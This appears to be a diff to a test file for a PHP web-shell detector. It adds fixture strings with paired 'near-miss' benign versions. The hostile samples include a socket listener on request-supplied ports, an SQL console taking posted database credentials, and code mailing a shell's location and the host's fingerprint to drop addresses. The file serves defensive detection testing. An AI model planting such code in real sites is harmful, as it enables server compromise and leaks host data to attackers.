@@ -107,6 +107,46 @@ SELFDEL_NEAR = (
     b"file_put_contents(__DIR__ . '/config.lock', date('c'));\nunlink(__FILE__);\n"
 )
 
+LISTENER = (
+    b"<?php\n$ip = $_GET['listen_ip'];\n$port = (int) $_GET['listen_port'];\n"
+    b"$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, $ip, $port);\n"
+    b"socket_listen($s);\n$c = socket_accept($s);\n"
+)
+LISTENER_NEAR = (
+    b"<?php\n// CLI daemon, port from the config file\n$port = $config['port'];\n"
+    b"$srv = stream_socket_server('tcp://127.0.0.1:' . $port);\n"
+)
+
+SQLCONSOLE = (
+    b"<?php\n$h = $_POST['dbhost'];\n$u = $_POST['dbuser'];\n$p = $_POST['dbpass'];\n"
+    b"$sql = stripslashes($_POST['sql']);\n$c = mysqli_connect($h, $u, $p);\n"
+    b"$r = mysqli_query($c, $sql);\nwhile ($row = mysqli_fetch_row($r)) print_r($row);\n"
+)
+SQLCONSOLE_NEAR = (
+    b"<?php\n$c = mysqli_connect(DB_HOST, DB_USER, DB_PASS);\n$id = (int) $_GET['id'];\n"
+    b"$r = mysqli_query($c, 'SELECT name FROM items WHERE id = ' . $id);\n"
+)
+
+SHELL_LOCATION = (
+    b"<?php\n$to = 'drop.box77@bol.com.br';\n"
+    b"mail($to, 'up', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'], 'From: x@example.org');\n"
+)
+SHELL_LOCATION_NEAR = (
+    b"<?php\n$to = get_option('admin_email');\n"
+    b"mail($to, 'Contact form', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] . $msg);\n"
+)
+
+FINGERPRINT = (
+    b"<?php\n$m = $_SERVER['DOCUMENT_ROOT'] . \"\\n\" . $_SERVER['SERVER_ADDR'] . \"\\n\"\n"
+    b"   . $_SERVER['SCRIPT_FILENAME'] . \"\\n\" . $_SERVER['SERVER_SOFTWARE'] . \"\\n\"\n"
+    b"   . $_SERVER['REMOTE_ADDR'];\nmail('owner.x1@gmail.com', 'new host', $m);\n"
+)
+FINGERPRINT_NEAR = (
+    b"<?php\n$m = $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SERVER_ADDR'] . $_SERVER['SCRIPT_FILENAME']\n"
+    b"   . $_SERVER['SERVER_SOFTWARE'] . $_SERVER['REMOTE_ADDR'];\n"
+    b"mail(get_option('admin_email'), 'diagnostics', $m);\n"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_DIRECT, True),
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_VIA_FUNC, True),
@@ -133,4 +173,12 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_IfsCommandEvasion", IFS_NEAR, False),
     ("SPAMGEAR_TOOLKIT_SelfDeletingDropper", SELFDEL, True),
     ("SPAMGEAR_TOOLKIT_SelfDeletingDropper", SELFDEL_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_SocketListenerFromInput", LISTENER, True),
+    ("SPAMGEAR_TOOLKIT_SocketListenerFromInput", LISTENER_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_SqlConsoleOnInputCreds", SQLCONSOLE, True),
+    ("SPAMGEAR_TOOLKIT_SqlConsoleOnInputCreds", SQLCONSOLE_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_MailedShellLocation", SHELL_LOCATION, True),
+    ("SPAMGEAR_TOOLKIT_MailedShellLocation", SHELL_LOCATION_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_MailedHostFingerprint", FINGERPRINT, True),
+    ("SPAMGEAR_TOOLKIT_MailedHostFingerprint", FINGERPRINT_NEAR, False),
 ]
